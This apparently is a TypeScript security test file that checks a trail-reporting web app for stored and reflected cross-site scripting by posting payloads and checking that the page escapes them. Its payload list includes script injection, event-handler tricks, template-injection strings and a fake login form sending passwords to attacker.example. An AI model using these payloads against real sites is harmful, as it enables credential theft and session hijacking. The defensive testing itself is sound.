import type { Attack, Topic } from '../attack.ts';
import { ours } from '../forge.ts';
import type { Target } from '../target.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</h3></article><form action="//attacker.example"><input name=password>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '<!--',
  ']]><![CDATA[',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  '<base href="//attacker.example">',
  '<meta http-equiv=refresh content="0;url=//attacker.example">',
  '\u2028<script>',
  '＜script＞',
];

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};
const escaped = (text: string) => text.replace(/[&<>"']/g, (character) => ESCAPES[character]!);

/** Its text is on the page, and its markup is not. */
function faultsOfPage(page: string, payload: string): string[] {
  const faults = page.includes(escaped(payload)) ? [] : ['its text is not there'];
  const dangerous =
    /<(script|img|svg|base|meta http-equiv|input name=password)|<!--|on(error|load)=[^&]*>/i;
  const body = page.slice(page.indexOf('<body>')).replaceAll(escaped(payload), '');
  if (dangerous.test(body)) faults.push('its markup is on the page');
  return faults;
}

async function showOffice(target: Target) {
  const { cookie } = await target.signedIn();
  return target.send({ path: '/office', lines: [cookie] });
}

/** A hiker writes, a ranger reads: what is text in the API must be text on the page. */
export const storedHtml: Topic = {
  title: 'Stored and reflected HTML',
  attacks: [
    ...PAYLOADS.flatMap((payload) =>
      (['title', 'body'] as const).map((member): Attack => ({
        name: `a report whose ${member} is ${JSON.stringify(payload)}`,
        why: 'OWASP, stored XSS: text is escaped where it becomes a page',
        run: async (target) => {
          const report = { trail: 'larch-loop', condition: 'open', title: 'x', [member]: payload };
          const { status } = await target.send({
            method: 'POST',
            path: '/api/reports',
            lines: [`Authorization: Bearer ${ours()}`, 'Content-Type: application/json'],
            body: JSON.stringify(report),
          });
          if (status !== 201) throw new Error(`Posting it was answered ${status}.`);
          return showOffice(target);
        },
        expected: { status: 200 },
        faults: (_target, { body }) => faultsOfPage(body, payload),
      })),
    ),
    ...(['name', 'handle'] as const).map((column): Attack => ({
      name: `a ranger whose ${column} is markup`,
      why: 'what comes from our own database is escaped, too',
      run: async (target) => {
        const payload = PAYLOADS[1]!;
        target.world.database.run(`UPDATE people SET ${column} = ? WHERE id = 'p-ines'`, payload);
        return showOffice(target);
      },
      expected: { status: 200 },
      faults: (_target, { body }) => faultsOfPage(body, PAYLOADS[1]!),
    })),
    ...[
      '/office/<script>alert(1)</script>',
      '/office/%3Cscript%3Ealert(1)%3C/script%3E',
      '/office/"onmouseover="alert(1)',
      '/api/<script>alert(1)</script>',
      '/api/trails/<script>alert(1)</script>',
      '/<script>alert(1)</script>',
    ].map((path): Attack => ({
      name: `GET ${path}`,
      why: 'OWASP, reflected XSS: a path is not repeated',
      run: async (target) => {
        const { cookie } = await target.signedIn();
        return target.send({ path, lines: [cookie] });
      },
      expected: { status: 404 },
      faults: (_target, { body }) => (/alert|mouseover/.test(body) ? ['repeats it'] : []),
    })),
  ],
};
